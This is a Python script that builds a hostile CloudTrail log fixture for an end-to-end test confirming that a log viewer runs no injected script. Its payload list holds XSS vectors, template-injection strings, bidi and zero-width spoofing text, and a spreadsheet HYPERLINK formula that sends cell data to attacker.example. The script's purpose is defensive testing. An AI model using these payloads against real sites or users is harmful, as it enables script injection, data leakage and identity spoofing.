#!/usr/bin/env python3
"""Writes a CloudTrail log file that attacks the viewer: every string field of every event (except the
time, so the events load) carries an HTML or script payload, a javascript: link, bidi overrides,
zero-width characters or a very long string. e2e/xss.test.mjs loads it and checks that nothing ran.

Every payload that could run sets `window.__xss` (or opens a dialog), so a test can see it happen.
The file's own name is hostile too (see NAME).

    python3 scripts/make-xss-fixture.py OUT_DIR      # writes OUT_DIR/<NAME> and OUT_DIR/payloads.json
"""
import json
import os
import sys

MARK = "window.__xss=(window.__xss||0)+1"
PAYLOADS = [
    f'<img src=x onerror="{MARK}">',
    f"<svg onload={MARK}>",
    f"<svg><script>{MARK}</script></svg>",
    f"</script><script>{MARK}</script>",
    f'"><iframe src="javascript:{MARK}"></iframe>',
    f"JaVaScRiPt:{MARK}",
    f"java\tscript:{MARK}",
    f" javascript:alert(document.domain)",
    "data:text/html,<script>alert(1)</script>",
    f"<a href=javascript:{MARK}>click</a>",
    f"<details open ontoggle={MARK}>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    '=HYPERLINK("https://attacker.example/?q="&A1,"open")',
    # Bidi: U+202E (right-to-left override) makes "evil\u202egnp.exe" read as "evilexe.png".
    "arn:aws:iam::123456789012:user/admin\u202e\u2066nimda\u2069",
    "report\u202egnp.exe",
    # Zero-width characters: "admin" that is not "admin".
    "ad\u200bmi\u200cn\u200d\ufeff",
    "\u2067\u202bmixed\u202c\u2069 \u200e\u200f\u061c",
    # Very long: 100,000 characters with no space, which must wrap, not widen the page.
    "A" * 100_000,
]

# The file name: markup, a bidi override and a zero-width space, all legal in a file name.
NAME = "<img src=x onerror=alert(1)>\u202e\u200bgpj.json"


def hostile(value, i):
    """Replaces every string in a JSON value by a payload (cycling through them)."""
    if isinstance(value, str):
        i[0] += 1
        return PAYLOADS[i[0] % len(PAYLOADS)]
    if isinstance(value, list):
        return [hostile(v, i) for v in value]
    if isinstance(value, dict):
        # Keys stay: the parser must find eventTime, userIdentity...
        return {k: hostile(v, i) for k, v in value.items()}
    return value


def event(n, payload_offset):
    """A realistic event shape (ECR PutImage by an assumed role) with every string replaced."""
    template = {
        "eventVersion": "1.08",
        "userIdentity": {
            "type": "AssumedRole",
            "principalId": "AROAEXAMPLE:session",
            "arn": "arn:aws:sts::123456789012:assumed-role/Builder/session",
            "accountId": "123456789012",
            "accessKeyId": "ASIAEXAMPLE",
            "sessionContext": {
                "sessionIssuer": {"type": "Role", "principalId": "AROAEXAMPLE", "arn": "arn:aws:iam::123456789012:role/Builder",
                                  "accountId": "123456789012", "userName": "Builder"},
                "attributes": {"creationDate": "2026-03-01T00:00:00Z", "mfaAuthenticated": "false"},
            },
            "invokedBy": "ecr.amazonaws.com",
        },
        "eventSource": "ecr.amazonaws.com",
        "eventName": "PutImage",
        "awsRegion": "us-east-1",
        "sourceIPAddress": "203.0.113.7",
        "userAgent": "docker/24.0",
        "errorCode": "AccessDenied",
        "errorMessage": "not allowed",
        "requestParameters": {"repositoryName": "app", "imageTag": "latest",
                              "imageManifest": "{\"layers\":[{\"digest\":\"sha256:ab\"}]}"},
        "responseElements": {"image": {"repositoryName": "app", "imageId": {"imageDigest": "sha256:cd", "imageTag": "v1"}}},
        "requestID": "req",
        "eventID": "id",
        "readOnly": False,
        "resources": [{"ARN": "arn:aws:ecr:us-east-1:123456789012:repository/app", "accountId": "123456789012"}],
        "eventType": "AwsApiCall",
        "recipientAccountId": "123456789012",
        "eventCategory": "Management",
    }
    e = hostile(template, [payload_offset])
    # The time stays valid, or the event would not load at all.
    e["eventTime"] = f"2026-03-01T00:{n // 60:02d}:{n % 60:02d}Z"
    return e


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else "."
    os.makedirs(out, exist_ok=True)
    events = [event(n, n) for n in range(len(PAYLOADS) * 2)]
    # Half the events keep real source and name, so the container and identity views have items to show.
    for e in events[::2]:
        e["eventSource"], e["eventName"] = "ecr.amazonaws.com", "PutImage"
    # A few are changes to the registry (its policy, replication to another account) and pushes to
    # ECR Public, whose parameters are payloads too, for the registry panel and the public marks.
    for n, e in enumerate(events[1::8]):
        p = lambda k: PAYLOADS[(n + k) % len(PAYLOADS)]
        e["eventSource"], e["eventName"] = "ecr.amazonaws.com", "PutReplicationConfiguration"
        e["requestParameters"] = {"replicationConfiguration": {"rules": [
            {"destinations": [{"region": p(1), "registryId": p(2)}], "repositoryFilters": [{"filter": p(3), "filterType": "PREFIX_MATCH"}]}]}}
        e.pop("errorCode", None)
    for n, e in enumerate(events[3::8]):
        p = lambda k: PAYLOADS[(n + k) % len(PAYLOADS)]
        e["eventSource"], e["eventName"] = "ecr.amazonaws.com", "PutRegistryPolicy"
        e["requestParameters"] = {"policyText": json.dumps({"Statement": [{"Effect": "Allow", "Principal": {"AWS": p(4)}, "Action": [p(5)]}]})}
        e.pop("errorCode", None)
    for e in events[5::8]:
        e["eventSource"], e["eventName"] = "ecr-public.amazonaws.com", "PutImage"
        e.pop("errorCode", None)
    # A few are other services' writes naming an ECR image whose repository, tag and user are
    # payloads (an image's story, a repository's "Used by other services").
    for n, e in enumerate(events[7::8]):
        p = lambda k: PAYLOADS[(n + k) % len(PAYLOADS)]
        e["eventSource"], e["eventName"], e["readOnly"] = "sagemaker.amazonaws.com", "CreateModel", False
        e["requestParameters"] = {"modelName": p(1), "primaryContainer": {
            "image": f"123456789012.dkr.ecr.us-east-1.amazonaws.com/{p(2)}:{p(3)}"}}
        e.pop("errorCode", None)
    # A few (half of those) are changes to trails instead, whose trail names, buckets and excluded
    # sources are payloads (the Integrity tab's "Changes to logging", the attention list).
    for n, e in enumerate(events[15::16]):
        p = lambda k: PAYLOADS[(n + k) % len(PAYLOADS)]
        e["eventSource"], e["readOnly"] = "cloudtrail.amazonaws.com", False
        if n % 2:
            e["eventName"] = "StopLogging"
            e["requestParameters"] = {"name": p(1)}
        else:
            e["eventName"] = "PutEventSelectors"
            e["requestParameters"] = {"trailName": p(1), "eventSelectors": [
                {"readWriteType": "ReadOnly", "excludeManagementEventSources": [p(2)]}]}
        e.pop("errorCode", None)
    # Two turn other monitoring off (the Integrity tab's "Changes to monitoring", the overview's
    # line, the attention list): flow logs deleted, whose IDs are payloads (EC2's XML as JSON),
    # and a GuardDuty trusted IP list whose detector, name and location are payloads.
    flow, ipset = events[7], events[36]
    flow["eventSource"], flow["eventName"], flow["readOnly"] = "ec2.amazonaws.com", "DeleteFlowLogs", False
    flow["requestParameters"] = {"DeleteFlowLogsRequest": {"FlowLogId": [{"content": PAYLOADS[1], "tag": 1}, {"content": PAYLOADS[2], "tag": 2}]}}
    ipset["eventSource"], ipset["eventName"], ipset["readOnly"] = "guardduty.amazonaws.com", "CreateIPSet", False
    ipset["requestParameters"] = {"detectorId": PAYLOADS[3], "name": PAYLOADS[4], "location": PAYLOADS[5], "activate": True}
    for e in (flow, ipset):
        e.pop("errorCode", None)
    # A GitHub Actions workflow's web identity session whose subject and session name are payloads,
    # and a push made with the key it handed out (the line naming who is behind a caller: the
    # Images tab's pushes, the Identities tab's keys and sessions, the role chains).
    web, push = events[21], events[22]
    web.update({"eventSource": "sts.amazonaws.com", "eventName": "AssumeRoleWithWebIdentity", "readOnly": True})
    web["userIdentity"] = {"type": "WebIdentityUser", "principalId": PAYLOADS[6], "userName": PAYLOADS[7],
                           "identityProvider": "token.actions.githubusercontent.com"}
    web["requestParameters"] = {"roleArn": "arn:aws:iam::123456789012:role/Builder", "roleSessionName": PAYLOADS[8]}
    web["responseElements"] = {
        "credentials": {"accessKeyId": "ASIAXSSWEBIDENTITY01", "sessionToken": "", "expiration": "Mar 1, 2026, 1:00:00 AM"},
        "subjectFromWebIdentityToken": PAYLOADS[9],
        "assumedRoleUser": {"assumedRoleId": "AROAEXAMPLE:x", "arn": f"arn:aws:sts::123456789012:assumed-role/Builder/{PAYLOADS[10]}"},
        "provider": "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com",
        "audience": "sts.amazonaws.com"}
    push["userIdentity"]["accessKeyId"] = "ASIAXSSWEBIDENTITY01"
    # An EventBridge rule deleted (a monitor turned off) whose name and event bus are payloads.
    rule = events[29]
    rule.update({"eventSource": "events.amazonaws.com", "eventName": "DeleteRule", "readOnly": False,
                 "sourceIPAddress": "203.0.113.7"})
    rule["userIdentity"].pop("invokedBy", None)
    rule["requestParameters"] = {"name": PAYLOADS[11], "eventBusName": PAYLOADS[12]}
    for e in (web, push, rule):
        e.pop("errorCode", None)
    # An access key made for a user whose name and key are payloads, and a role whose name is one
    # made to trust another account (the attention list's credentials and access items).
    key, trust = events[24], events[26]
    key.update({"eventSource": "iam.amazonaws.com", "eventName": "CreateAccessKey", "readOnly": False})
    key["requestParameters"] = {"userName": PAYLOADS[13]}
    key["responseElements"] = {"accessKey": {"accessKeyId": PAYLOADS[14], "status": "Active", "userName": PAYLOADS[13]}}
    trust.update({"eventSource": "iam.amazonaws.com", "eventName": "UpdateAssumeRolePolicy", "readOnly": False})
    trust["requestParameters"] = {"roleName": PAYLOADS[15], "policyDocument": json.dumps({"Statement": [
        {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::444455556666:root"}, "Action": PAYLOADS[16]}]})}
    for e in (key, trust):
        e.pop("errorCode", None)
    # A distinct eventID each (dedupe must not merge them); payload inside.
    for n, e in enumerate(events):
        e["eventID"] = f"{PAYLOADS[n % len(PAYLOADS)][:200]}#{n}"
    with open(os.path.join(out, NAME), "w", encoding="utf-8") as f:
        json.dump({"Records": events}, f, ensure_ascii=False)
    with open(os.path.join(out, "payloads.json"), "w", encoding="utf-8") as f:
        json.dump({"name": NAME, "payloads": PAYLOADS, "events": len(events)}, f, ensure_ascii=False)
    print(f"wrote {len(events)} events to {os.path.join(out, NAME)!r}")


if __name__ == "__main__":
    main()
